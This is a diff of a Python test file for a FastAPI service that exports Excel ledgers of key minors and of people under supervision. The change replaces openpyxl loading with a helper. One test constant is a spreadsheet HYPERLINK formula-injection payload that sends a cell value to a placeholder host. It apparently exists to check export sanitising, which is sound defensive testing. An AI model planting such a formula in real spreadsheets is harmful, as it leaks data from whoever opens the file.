@@ -15,7 +15,6 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 from icalendar import Calendar
-from openpyxl import load_workbook
 from sqlalchemy import select
 from sqlmodel import Session
 
@@ -32,6 +31,7 @@ from tests.registry.factories import make_world as registry_world
 from tests.schedules.test_schedule_api import _login, _seed
 from tests.venues.factories import credit_code, grid_point
 from tests.venues.factories import make_world as venue_world
+from tests.xlsx_support import read_workbook
 
 HYPERLINK = '=HYPERLINK("http://x?x="&C2,"点击")'
 CODES = ("key_venue", "high_risk", "carried_over", "overdue_problem", "routine", "police", "market_supervision",
@@ -45,7 +45,7 @@ def _formulas(content: bytes) -> list[str]:
 
 
 def _cells(content: bytes) -> list[tuple[Any, str]]:
-    book = load_workbook(io.BytesIO(content))
+    book = read_workbook(content)
     return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]
 
 
@@ -101,13 +101,13 @@ def test_the_printed_layout_has_the_annex_row_and_title_and_still_imports(
                        json={"name": "某丙", "id_number": "11010519491231002X", "sex": "female",
                              "categories": ["2", "5"]}).status_code == 201
     resp = client.get("/api/v1/ledgers/1.xlsx", headers=w.coordinator.headers)
-    sheet = load_workbook(io.BytesIO(resp.content)).worksheets[0]
+    sheet = read_workbook(resp.content).worksheets[0]
     assert sheet["A1"].value == "附件1：" and sheet["A2"].value == "重点未成年人摸排台账"
     assert sheet["A3"].value == "序号" and sheet["I3"].value.startswith("分类：严重不良行为、不良行为")
     assert sheet["O3"].value.startswith("综合研判风险等级（低风险")
     assert sheet["B3"].font.b and sheet.freeze_panes == "A4"
     assert sheet["B4"].value == "王小明"
-    annex2 = load_workbook(io.BytesIO(client.get("/api/v1/ledgers/2.xlsx", headers=w.coordinator.headers).content))
+    annex2 = read_workbook(client.get("/api/v1/ledgers/2.xlsx", headers=w.coordinator.headers).content)
     assert annex2.worksheets[0]["H3"].value.startswith("分类：1、性侵犯罪前科刑满释放人员；2、社区矫正对象")
     for annex in (1, 2, 3):
         content = client.get(f"/api/v1/ledgers/{annex}.xlsx", headers=w.coordinator.headers).content
